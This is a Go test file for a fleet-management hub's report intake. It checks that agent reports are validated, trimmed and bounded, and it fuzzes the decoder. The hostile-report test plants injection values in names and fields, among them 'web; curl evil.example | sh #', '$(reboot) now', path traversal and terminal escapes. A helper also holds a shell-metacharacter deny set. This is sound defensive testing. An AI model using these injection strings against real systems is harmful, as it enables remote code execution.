package intake_test

import (
	"encoding/json"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"github.com/flotilla-fleet/flotilla/api"
	"github.com/flotilla-fleet/flotilla/hub/intake"
)

var now = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// honest is a report of each kind, as agents make them.
func honest() []api.Report {
	by := api.Attribution{Manager: "kubectl-edit", Operation: "Update", Subresource: "scale", Time: now.Add(-time.Minute), Confidence: api.ConfidenceTool}
	ref := api.ObjectRef{Group: "rbac.authorization.k8s.io", Version: "v1", Kind: "ClusterRole", Name: "system:auth-delegator"}
	return []api.Report{
		{Seq: 1, At: now, Status: &api.ClusterStatus{
			Cluster: "prod-eu", Labels: map[string]string{"env": "prod", "example.com/region": "eu"}, Source: "https://git.example.com/fleet.git",
			Branch: "main", DesiredRevision: strings.Repeat("a", 40), AppliedRevision: strings.Repeat("a", 40), Subject: "podinfo: größer",
			Fetched: now.Add(time.Second), Started: now.Add(-time.Hour), KubeVersion: "v1.37.1", AgentVersion: "v0.3.0-12-gabc",
			Error: &api.StatusError{Kind: api.Stalled, Reason: "RenderFailed", Message: "line 1\nline 2", File: "a b/c.yaml", Line: 3, Field: "spec.x"},
			Suspensions: []api.Suspension{{
				Name: "suspension-x7k2p", Scope: api.Scope{Objects: []api.ObjectRef{{Kind: "Deployment", Namespace: "web", Name: "web"}}},
				Reason: "INC-1: why", Until: now.Add(30 * 24 * time.Hour), Actor: "dana@example.com", Created: now.Add(-time.Minute),
			}},
		}},
		{Seq: 2, At: now, Bundle: &api.BundleStatus{
			Name: "web", Phase: api.PhaseFailed, DesiredRevision: "r1", Digest: "sha256:" + strings.Repeat("b", 64), Objects: 3, ReadyObjects: 2,
			Contested: []string{"Deployment.apps/web/web: kubectl-edit"}, Exempt: []string{"ConfigMap/web/x: flotilla.dev/drift: ignore"},
			ServiceAccount: &api.ServiceAccount{Namespace: "team-a", Name: "deployer"}, DependsOn: []string{"db"}, Warnings: []string{"old"},
			Message: "waiting", Changes: []api.Change{{Object: ref, Action: api.Updated, Reason: "rules differ"}}, Changed: now, Updated: now,
		}},
		{Seq: 3, At: now, RemovedBundle: "old"},
		{Seq: 4, At: now, Episode: &api.Episode{
			ID: "prod-eu-k7qa-42", Cluster: "prod-eu", Bundle: "web", Object: ref, UID: "0f3c", Class: api.ClassChanged, By: by, Revision: "r1",
			Fields: []api.FieldDiff{{Path: "/rules/[name=a~1b]/x", Class: api.ClassRemoved, Desired: `{"a":1}`, By: by}},
			Onset:  now.Add(-time.Minute), LastSeen: now, End: now.Add(time.Second), Count: 1, Outcome: api.OutcomeCorrected,
			Hint: "ignore: …", Evidence: &api.Evidence{ResourceVersion: "12", Live: "{}", ManagedFields: "[]"},
			Timeline: []api.Moment{{At: now, What: "seen"}}, Reopened: now.Add(-time.Second), Rounds: []api.Round{{
				Began: now.Add(-time.Minute), Ended: now.Add(-30 * time.Second), Class: api.ClassChanged, By: by, Outcome: api.OutcomeResolved,
				Revision: "r1", Fields: []api.FieldDiff{{Path: "/x", Class: api.ClassChanged, Desired: "1", Live: "2", By: by}},
			}},
		}},
		{Seq: 6, From: 5, At: now, Compacted: &api.Compacted{From: 5, To: 6, Episodes: 2}},
	}
}

// What agents send is taken as it is: otherwise the two sides' checksums would never agree.
func TestTake_honest(t *testing.T) {
	for _, r := range honest() {
		before, err := json.Marshal(r)
		if err != nil {
			t.Fatal(err)
		}
		decoded, err := intake.Decode(before)
		if err != nil {
			t.Fatal(err)
		}
		got, omitted := intake.Take(decoded, now)
		if len(omitted) > 0 {
			t.Errorf("%s: %v", r.Kind(), omitted)
		}
		if diff := cmp.Diff(decoded, got); diff != "" {
			t.Errorf("%s changed: %s", r.Kind(), diff)
		}
		if after, err := json.Marshal(decoded); err != nil || string(after) != string(before) {
			t.Errorf("%s: what was given was changed", r.Kind())
		}
	}
}

const shell = "web; curl evil.example | sh #"

// Each row spoils one thing of an honest report. Of it as little as possible is lost, and that is told.
func TestTake_hostile(t *testing.T) {
	status := func(change func(*api.ClusterStatus)) func([]api.Report) api.Report {
		return func(rs []api.Report) api.Report { change(rs[0].Status); return rs[0] }
	}
	bundle := func(change func(*api.BundleStatus)) func([]api.Report) api.Report {
		return func(rs []api.Report) api.Report { change(rs[1].Bundle); return rs[1] }
	}
	episode := func(change func(*api.Episode)) func([]api.Report) api.Report {
		return func(rs []api.Report) api.Report { change(rs[3].Episode); return rs[3] }
	}
	for _, tt := range []struct {
		name   string
		report func([]api.Report) api.Report
		reason string
		// lost says that the whole report is.
		lost bool
	}{
		{"bundle's name", bundle(func(b *api.BundleStatus) { b.Name = shell }), intake.BadName, true},
		{"bundle's name with a newline", bundle(func(b *api.BundleStatus) { b.Name = "a\nb" }), intake.BadName, true},
		{"bundle's phase", bundle(func(b *api.BundleStatus) { b.Phase = "great" }), intake.BadName, true},
		{"bundle's dependency", bundle(func(b *api.BundleStatus) { b.DependsOn = []string{shell} }), intake.BadName, false},
		{"bundle's suspension", bundle(func(b *api.BundleStatus) { b.Suspended = shell }), intake.BadName, false},
		{"bundle's account", bundle(func(b *api.BundleStatus) { b.ServiceAccount.Name = "../x" }), intake.BadName, false},
		{"bundle's change", bundle(func(b *api.BundleStatus) { b.Changes[0].Action = "stolen" }), intake.BadName, false},
		{"bundle's object", bundle(func(b *api.BundleStatus) { b.Changes[0].Object.Name = "../../x" }), intake.BadName, false},
		{"many changes", bundle(func(b *api.BundleStatus) { b.Changes = slices.Repeat(b.Changes, 20_000) }), intake.TooMany, false},
		{"long message", bundle(func(b *api.BundleStatus) { b.Message = strings.Repeat("ä", 1<<20) }), intake.TooLong, false},
		{"changed next year", bundle(func(b *api.BundleStatus) { b.Changed = now.AddDate(1, 0, 0) }), intake.BadTime, false},
		{"removed bundle", func(rs []api.Report) api.Report { rs[2].RemovedBundle = shell; return rs[2] }, intake.BadName, true},
		{"label", status(func(s *api.ClusterStatus) { s.Labels["a\x1b[2J"] = "x" }), intake.BadName, false},
		{"revision", status(func(s *api.ClusterStatus) { s.AppliedRevision = "$(reboot) now" }), intake.BadName, false},
		{"suspension's name", status(func(s *api.ClusterStatus) { s.Suspensions[0].Name = shell }), intake.BadName, false},
		{"suspension's object", status(func(s *api.ClusterStatus) { s.Suspensions[0].Scope.Objects[0].Kind = "A B" }), intake.BadName, false},
		{"many suspensions", status(func(s *api.ClusterStatus) { s.Suspensions = slices.Repeat(s.Suspensions, 1000) }), intake.TooMany, false},
		{"error's kind", status(func(s *api.ClusterStatus) { s.Error.Kind = "fun" }), intake.BadName, false},
		{"fetched tomorrow", status(func(s *api.ClusterStatus) { s.Fetched = now.Add(24 * time.Hour) }), intake.BadTime, false},
		{"episode's ID", episode(func(e *api.Episode) { e.ID = "prod-eu-$(x)-1" }), intake.BadName, true},
		{"episode's bundle", episode(func(e *api.Episode) { e.Bundle = shell }), intake.BadName, true},
		{"episode's kind", episode(func(e *api.Episode) { e.Object.Kind = "Deploy ment" }), intake.BadName, true},
		{"episode's namespace", episode(func(e *api.Episode) { e.Object.Namespace = "a/b" }), intake.BadName, true},
		{"episode's object", episode(func(e *api.Episode) { e.Object.Name = "a\nb" }), intake.BadName, true},
		{"episode's class", episode(func(e *api.Episode) { e.Class = "worse" }), intake.BadName, true},
		{"episode's outcome", episode(func(e *api.Episode) { e.Outcome = "won" }), intake.BadName, true},
		{"episode's suspension", episode(func(e *api.Episode) { e.Suspension = shell }), intake.BadName, false},
		{"field manager", episode(func(e *api.Episode) { e.By.Manager = strings.Repeat("m", 129) }), intake.BadName, false},
		{"field manager with escapes", episode(func(e *api.Episode) { e.Fields[0].By.Manager = "a\x1b[31m" }), intake.BadName, false},
		{"field's path", episode(func(e *api.Episode) { e.Fields[0].Path = "/a\n/b" }), intake.BadName, false},
		{"field's class", episode(func(e *api.Episode) { e.Fields[0].Class = api.ClassExtra }), intake.BadName, false},
		{"many fields", episode(func(e *api.Episode) { e.Fields = slices.Repeat(e.Fields, 1000) }), intake.TooMany, false},
		{"long value", episode(func(e *api.Episode) { e.Fields[0].Live = strings.Repeat("x", 1<<20) }), intake.TooLong, false},
		{"large evidence", episode(func(e *api.Episode) { e.Evidence.Live = strings.Repeat("x", 1<<20) }), intake.TooLong, false},
		{"long timeline", episode(func(e *api.Episode) { e.Timeline = slices.Repeat(e.Timeline, 1000) }), intake.TooMany, false},
		{"begins again tomorrow", episode(func(e *api.Episode) { e.Reopened = now.Add(24 * time.Hour) }), intake.BadTime, false},
		{"many rounds", episode(func(e *api.Episode) { e.Rounds = slices.Repeat(e.Rounds, 1000) }), intake.TooMany, false},
		{"round's fields", episode(func(e *api.Episode) { e.Rounds[0].Fields = slices.Repeat(e.Rounds[0].Fields, 1000) }), intake.TooMany, false},
		{"round's value", episode(func(e *api.Episode) { e.Rounds[0].Fields[0].Live = strings.Repeat("x", 1<<20) }), intake.TooLong, false},
		{"long rounds", episode(func(e *api.Episode) {
			e.Rounds[0].Fields[0].Path = "/" + strings.Repeat("é", 240)
			e.Rounds[0].Fields = slices.Repeat(e.Rounds[0].Fields, api.MaxRoundFields)
			e.Rounds = slices.Repeat(e.Rounds, api.MaxRounds)
		}), intake.TooLong, false},
		{"round's class", episode(func(e *api.Episode) { e.Rounds[0].Class = "worse" }), intake.BadName, false},
		{"round's outcome", episode(func(e *api.Episode) { e.Rounds[0].Outcome = "won" }), intake.BadName, false},
		{"round's manager", episode(func(e *api.Episode) { e.Rounds[0].By.Manager = "a\x1b[31m" }), intake.BadName, false},
		{"round's revision", episode(func(e *api.Episode) { e.Rounds[0].Revision = shell }), intake.BadName, false},
		{"round's path", episode(func(e *api.Episode) { e.Rounds[0].Fields[0].Path = "/a\n/b" }), intake.BadName, false},
		{"round from tomorrow", episode(func(e *api.Episode) {
			e.Rounds[0].Began, e.Rounds[0].Ended = now.Add(24*time.Hour), now.Add(25*time.Hour)
		}), intake.BadTime, false},
		{"round that ends before it began", episode(func(e *api.Episode) { e.Rounds[0].Ended = now.Add(-time.Hour) }), intake.BadTime, false},
		{"begins tomorrow", episode(func(e *api.Episode) { e.Onset = now.Add(24 * time.Hour) }), intake.BadTime, false},
		{"ends in ten years", episode(func(e *api.Episode) { e.End = now.AddDate(10, 0, 0) }), intake.BadTime, false},
		{"ends before it began", episode(func(e *api.Episode) { e.End = e.Onset.Add(-time.Hour) }), intake.BadTime, false},
		{"never began", episode(func(e *api.Episode) { e.Onset = time.Time{} }), intake.BadTime, true},
		{"began before there were computers", episode(func(e *api.Episode) { e.Onset = time.Date(1600, 1, 1, 0, 0, 0, 0, time.UTC) }), intake.BadTime, false},
		{"corrected in a century", episode(func(e *api.Episode) { e.NextCorrection = now.AddDate(100, 0, 0) }), intake.BadTime, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.report(honest())
			got, omitted := intake.Take(r, now)
			if len(omitted) == 0 || omitted[0].Reason != tt.reason {
				t.Errorf("omitted %v, want %s", omitted, tt.reason)
			}
			for _, o := range omitted {
				if len(o.What) > 400 || strings.ContainsFunc(o.What, unicode.IsControl) {
					t.Errorf("what is told is not fit to be: %q", o.What)
				}
			}
			if lost := got.Kind() != r.Kind(); lost != tt.lost {
				t.Errorf("the report became %q", got.Kind())
			}
			if got.Seq != r.Seq || got.Validate() != nil {
				t.Errorf("report %d became %d: %v", r.Seq, got.Seq, got.Validate())
			}
			if err := possible(got); err != nil {
				t.Error(err)
			}
			if again, more := intake.Take(got, now); len(more) > 0 || !cmp.Equal(got, again) {
				t.Errorf("what was taken is not taken again: %v", more)
			}
		})
	}
}

// possible says what of a report that was taken no cluster can have.
func possible(r api.Report) error {
	b, err := json.Marshal(r)
	switch {
	case err != nil:
		return err
	case len(b) > 2<<20:
		return fmt.Errorf("a report of %d bytes was taken", len(b))
	case r.Bundle != nil && !api.ValidName(r.Bundle.Name), r.RemovedBundle != "" && !api.ValidName(r.RemovedBundle):
		return fmt.Errorf("bundle %q", r.RemovedBundle)
	case r.Bundle != nil && (len(r.Bundle.Changes) > api.MaxChanges || r.Bundle.Changed.After(now.Add(intake.Tolerance))):
		return fmt.Errorf("bundle %q has %d changes, the last at %s", r.Bundle.Name, len(r.Bundle.Changes), r.Bundle.Changed)
	}
	if e := r.Episode; e != nil {
		switch {
		case e.Onset.After(now.Add(intake.Tolerance)), e.End.After(now.Add(intake.Tolerance)), !e.Open() && e.End.Before(e.Onset):
			return fmt.Errorf("an episode from %s to %s", e.Onset, e.End)
		case e.Onset.UnixNano() < 0 || e.Onset.Year() > 9999:
			return fmt.Errorf("an episode from %s", e.Onset)
		case len(e.Fields) > api.MaxFields, len(e.Timeline) > api.MaxTimeline, len(e.By.Manager) > 128:
			return fmt.Errorf("an episode with %d fields and %d moments by %q", len(e.Fields), len(e.Timeline), e.By.Manager)
		case len(e.Rounds) > api.MaxRounds, e.Reopened.After(now.Add(intake.Tolerance)):
			return fmt.Errorf("an episode of %d earlier rounds, the latest at %s", len(e.Rounds), e.Reopened)
		case strings.ContainsAny(e.Object.Kind+e.Object.Namespace+e.Bundle+e.ID+e.Suspension, " ;|&$`'\"<>\\\n/"):
			return fmt.Errorf("an episode %q of %q in bundle %q", e.ID, e.Object, e.Bundle)
		case strings.ContainsFunc(e.Object.Name+e.By.Manager, unicode.IsControl):
			return fmt.Errorf("an episode of %q", e.Object)
		}
	}
	return nil
}

func TestDecode_bounds(t *testing.T) {
	for name, payload := range map[string]string{
		"no JSON":     "{",
		"another":     `{"seq": "one"}`,
		"large":       `{"removedBundle":"` + strings.Repeat("x", intake.MaxReport) + `"}`,
		"many values": `{"seq":1,"episode":{"fields":[` + strings.Repeat("{},", 100_000) + `{}]}}`,
		"deep":        strings.Repeat(`{"episode":`, 200_000),
		"many lists":  strings.Repeat("[", 100_000),
	} {
		if r, err := intake.Decode([]byte(payload)); err == nil {
			t.Errorf("%s: %+v", name, r.Kind())
		} else if len(err.Error()) > 400 {
			t.Errorf("%s: an error of %d bytes", name, len(err.Error()))
		}
	}
}

func TestSum(t *testing.T) {
	var sums []intake.LeftOut
	sums = intake.Sum(sums, now, []intake.Omission{{intake.TooLong, "a"}, {intake.BadName, "b"}})
	got := intake.Sum(sums, now.Add(time.Hour), []intake.Omission{{intake.TooLong, "c"}, {intake.BadTime, "d"}})
	want := []intake.LeftOut{
		{Reason: intake.BadName, Count: 1, First: now, Last: now, Example: "b"},
		{Reason: intake.BadTime, Count: 1, First: now.Add(time.Hour), Last: now.Add(time.Hour), Example: "d"},
		{Reason: intake.TooLong, Count: 2, First: now, Last: now.Add(time.Hour), Example: "c"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if len(sums) != 2 || sums[1].Count != 1 {
		t.Errorf("the sums that were given were changed: %+v", sums)
	}
}

// Whatever bytes an agent sends, the hub neither panics nor takes what no cluster has.
func FuzzReport(f *testing.F) {
	for _, r := range honest() {
		b, err := json.Marshal(r)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b, int64(0))
	}
	f.Add([]byte(`{"seq":1,"episode":{"id":"a-b-1","onset":"9999-12-31T23:59:59Z","end":"0001-01-01T00:00:01Z"}}`), int64(math.MaxInt64))
	f.Add([]byte(`{"seq":1,"bundle":{"name":"a","phase":"ready","objects":9223372036854775807,"changed":"2262-12-31T00:00:00+23:59"}}`), int64(-1))
	f.Fuzz(func(t *testing.T, payload []byte, seed int64) {
		r, err := intake.Decode(payload)
		if err != nil {
			return
		}
		spoil(&r, seed)
		got, omitted := intake.Take(r, now)
		if r.Validate() != nil && r.Episode == nil {
			return // the store refuses it
		}
		for _, o := range omitted {
			if o.Reason == "" || len(o.What) > 1000 {
				t.Errorf("omitted %q: %d bytes", o.Reason, len(o.What))
			}
		}
		if got.Validate() != nil {
			return
		}
		if err := possible(got); err != nil {
			t.Error(err)
		}
		if _, more := intake.Take(got, now); len(more) > 0 {
			t.Errorf("what was taken is not taken again: %v", more)
		}
	})
}

// spoil moves times and numbers to where JSON would not have them.
func spoil(r *api.Report, seed int64) {
	at := time.Unix(seed, seed)
	if e := r.Episode; e != nil && seed != 0 {
		e.Onset, e.LastSeen, e.Count = at, at.Add(time.Duration(seed)), int(seed)
		if !e.End.IsZero() {
			e.End = at.Add(-time.Duration(seed / 2))
		}
	}
	if b := r.Bundle; b != nil && seed != 0 {
		b.Changed, b.Objects = at, int(seed)
	}
}
